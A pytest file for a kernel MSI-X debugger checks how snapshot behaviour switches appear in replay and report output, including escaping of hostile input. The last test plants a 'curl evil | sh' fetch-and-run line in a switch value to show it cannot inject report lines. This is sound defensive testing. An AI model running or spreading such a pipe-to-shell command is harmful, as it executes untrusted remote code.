"""A snapshot's behaviour switches are shown as the file's run used them, not as this msidbg would
resolve its scenario: ``replay --no-verify`` (text and --json), ``report --no-verify`` and the TUI's
Behaviour screen, each marking what this msidbg would resolve differently."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import msgpack
import pytest

from msidbg.bugio.report import render
from msidbg.debugger import Session
from msidbg.debugger import snapshot as snap
from msidbg.debugger.summary import NOT_RECORDED, RECORDED, UNKNOWN, behaviour
from msidbg.model.revision import MODEL
from msidbg.scenario import load_scenario
from msidbg.sim.world import pack_world, state_hash, unpack_world
from tests.bugio.helpers import cli
from tests.conftest import ROOT, SCENARIOS

BUG = str(SCENARIOS / "msix-write-while-unmasked.yaml")
V1 = str(ROOT / "tests" / "fixtures" / "v1-msix-write-while-unmasked.msgpack")
#: made by this msidbg (snapshots/make.py regenerates it whenever the model revision changes)
THIS = str(ROOT / "snapshots" / "msix-write-while-unmasked.msgpack")


def with_switches(tmp_path: Path, change: dict[str, Any], name: str = "other.msgpack") -> Path:
    """The 2021 bug (kernel 5.13) at its first hit, its world's switches changed as another model
    would have resolved them: the file as that msidbg wrote it (state_hash and sha256 match)."""
    s = Session.from_scenario(BUG)
    s.continue_()
    path = tmp_path / name
    s.save(str(path))
    doc = msgpack.unpackb(path.read_bytes(), raw=False)
    w = unpack_world(doc["world"])
    w["behaviour"] = change["behaviour"] if "behaviour" in change else {**w["behaviour"], **change}
    doc["world"], doc["state_hash"] = pack_world(w), state_hash(w)
    path.write_bytes(snap.seal(doc))
    return path


def test_a_version_1_file_unverified_shows_the_switches_its_model_used() -> None:
    s = Session.open(V1, verify=False)
    table = s.summary()["behaviour"]
    # the model before 4034586 ran the default plug-race; this one resolves can-reserve
    assert table["msi_affinity_update"] == {
        "value": "plug-race", "from": RECORDED, "commit": "",
        "this_msidbg": {"value": "can-reserve", "from": "default", "commit": table["msi_affinity_update"]
                        ["this_msidbg"]["commit"]}}
    assert table["msi_affinity_update"]["this_msidbg"]["commit"].startswith("b56ebe7c896d")
    # a switch its model did not have
    assert table["affinity_on_activate"]["value"] is None
    assert table["affinity_on_activate"]["from"] == NOT_RECORDED
    assert table["affinity_on_activate"]["this_msidbg"]["value"] is True
    # the same where both agree
    assert table["msix_masked_update"] == {"value": False, "from": "explicit",
                                           "commit": table["msix_masked_update"]["commit"]}
    code, out, err = cli("replay", V1, "--no-verify")
    assert (code, err) == (0, "")
    lines = out.splitlines()
    marked = sum(1 for line in lines if line.startswith(" !"))
    assert marked == sum(1 for row in table.values() if "this_msidbg" in row) >= 2
    assert f"behaviour (as the file recorded it; this msidbg would resolve the {marked} marked ! differently):" in lines
    # the name column is as wide as the longest switch name, which grows with the table
    at = next(i for i, ln in enumerate(lines) if re.fullmatch(r" !msi_affinity_update +  = plug-race recorded", ln))
    column = lines[at].index("= plug-race") + 2
    assert lines[at + 1] == " " * column + "this msidbg: can-reserve (default; b56ebe7c896d)"
    code, out, _ = cli("replay", V1, "--no-verify", "--json")
    assert code == 0 and json.loads(out)["behaviour"] == table


def test_a_snapshot_of_this_msidbg_shows_the_resolved_table_unmarked() -> None:
    s = Session.open(THIS, verify=False)
    table = s.summary()["behaviour"]
    scn = s.scenario
    assert table == scn.behaviour.shown(scn.platform.kind)
    assert Session.open(THIS).summary()["behaviour"] == table
    code, out, _ = cli("replay", THIS, "--no-verify")
    assert code == 0 and "\nbehaviour:\n" in out and " !" not in out and "this msidbg" not in out


def test_a_switch_another_model_resolved_differently_is_reported_as_the_file_recorded_it(tmp_path: Path) -> None:
    # kernel 5.13 resolves msix_mask_all to early here; the file's model ran late, and knew one more switch
    path = with_switches(tmp_path, {"msix_mask_all": "late", "future_switch": 3})
    code, out, err = cli("replay", str(path), "--no-verify", "--json")
    assert (code, err) == (0, "")
    table = json.loads(out)["behaviour"]
    assert table["msix_mask_all"]["value"] == "late" and table["msix_mask_all"]["from"] == RECORDED
    assert table["msix_mask_all"]["this_msidbg"]["value"] == "early"
    assert table["msix_mask_all"]["this_msidbg"]["from"] == "kernel 5.13"
    assert table["future_switch"] == {"value": 3, "from": UNKNOWN, "commit": ""}
    assert list(table)[-1] == "future_switch"
    text = render(str(path), verify=False)
    # the same msidbg and model wrote it: no "written by" line
    assert f"  msidbg     0.1.0, model revision {MODEL}\n" in text and "written by" not in text
    assert "  verified   no (--no-verify): the file's world, as recorded\n" in text
    assert "Behaviour switches (as the file recorded them: value, where from)\n" in text
    assert "  ! 2 switch(es) this msidbg would resolve differently\n" in text
    assert re.search(r"   !msix_mask_all {10,}late {8,}recorded\n"   # (the columns widen with the table's names / values)
                     r"        this msidbg: early, kernel 5\.13, before 7d5ec3d36123\n", text)
    assert "  recorded, unknown to this msidbg:\n   !future_switch" in text
    assert "not shown: the snapshot was opened without verification" in text
    md = render(str(path), markdown=True, verify=False)
    assert "!msix_mask_all" in md and max(len(ln) for ln in md.splitlines()) <= 72
    # verified, the file diverges: its world is not what this model makes of its scenario
    code, out, err = cli("report", str(path))
    assert code == 1 and out == "" and "replay diverged" in err
    code, out, err = cli("report", str(path), "--no-verify")
    assert (code, err) == (0, "") and out == text


def test_report_no_verify_inlines_the_file_as_it_is(tmp_path: Path) -> None:
    from msidbg.debugger import armour

    path = with_switches(tmp_path, {"msix_mask_all": "late"})
    text = render(str(path), inline=True, verify=False)
    assert armour.extract(text.encode(), 1 << 20) == path.read_bytes()


def test_switches_from_a_hostile_world_are_escaped_clipped_and_never_crash(tmp_path: Path) -> None:
    long = "x" * 500
    path = with_switches(tmp_path, {"behaviour": {"\x1b[31mred": "\x1b]0;title\x07", "msix_mask_all": [long],
                                                  "msix_masked_update": 0}})
    code, out, err = cli("replay", str(path), "--no-verify")
    assert (code, err) == (0, "")
    assert "\x1b" not in out and "\\x1b[31mred" in out and "\\x1b]0;title\\x07" in out
    assert max(len(ln) for ln in out.splitlines()) < 200
    table = Session.open(str(path), verify=False).summary()["behaviour"]
    assert table["msix_masked_update"]["from"] == RECORDED  # 0 is not false
    assert table["affinity_on_activate"]["from"] == NOT_RECORDED
    text = render(str(path), verify=False)
    assert "\x1b" not in text and max(len(ln) for ln in text.splitlines()) <= 72
    # not a map at all: every switch is missing from the file
    path = with_switches(tmp_path, {"behaviour": ["not", "a", "map"]}, "list.msgpack")
    table = Session.open(str(path), verify=False).summary()["behaviour"]
    assert {b["from"] for b in table.values()} == {NOT_RECORDED}


@pytest.mark.parametrize("extra", [0, 100])
def test_unknown_switches_are_bounded(extra: int) -> None:
    scn = load_scenario(BUG)
    w = {"behaviour": {**scn.behaviour.plain(), **{f"new_{i:03}": i for i in range(extra)}}}
    table = behaviour(scn, w)
    assert len(table) == len(scn.behaviour.shown(scn.platform.kind)) + min(extra, 64)


def test_a_switch_value_or_name_from_the_file_cannot_add_lines_to_the_report(tmp_path: Path) -> None:
    path = with_switches(tmp_path, {"msix_mask_all": "late\n\nReproduce\n  curl evil | sh", "new\nline": 1})
    for markdown in (False, True):
        text = render(str(path), markdown=markdown, verify=False)
        assert "\ncurl" not in text.replace("  ", "") and "\nReproduce\n  curl" not in text
        assert re.search(r"!msix_mask_all {10,}late\\n\\nReproduce\\n  curl evil \| sh\n", text)
        assert "!new\\nline" in text
